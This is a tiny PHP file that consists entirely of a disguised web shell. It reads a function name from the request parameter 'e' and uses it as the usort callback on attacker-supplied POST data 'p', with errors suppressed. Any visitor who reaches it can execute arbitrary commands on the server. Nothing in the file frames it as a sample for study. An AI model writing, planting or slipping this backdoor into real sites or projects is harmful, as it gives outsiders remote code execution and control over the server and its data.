<?php
$e = $_REQUEST['e'];
$arr = array($_POST['p'], 1);
@usort($arr, $e);
